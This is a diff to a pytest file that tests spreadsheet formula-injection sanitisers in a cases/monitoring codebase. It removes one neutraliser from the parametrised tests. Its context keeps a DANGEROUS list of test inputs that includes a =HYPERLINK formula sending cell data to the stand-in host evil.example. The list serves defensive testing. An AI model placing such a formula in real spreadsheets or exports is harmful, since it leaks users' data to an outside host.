@@ -10,7 +10,7 @@ from openpyxl import load_workbook
 
 from cases.exports import csv_response, safe_cell, write_csv, write_xlsx, xlsx_response
 from cases.models import AuditEvent
-from monitoring import findings, rosters
+from monitoring import rosters
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击")',
@@ -47,12 +47,8 @@ def test_safe_cell_leaves_other_values(value):
 
 @pytest.mark.parametrize(
     "neutralise",
-    [safe_cell, findings.neutralise, rosters.safe_text],
-    ids=[
-        "cases.exports.safe_cell",
-        "monitoring.findings.neutralise",
-        "monitoring.rosters.safe_text",
-    ],
+    [safe_cell, rosters.safe_text],
+    ids=["cases.exports.safe_cell", "monitoring.rosters.safe_text"],
 )
 @pytest.mark.parametrize(
     ("value", "expected"),
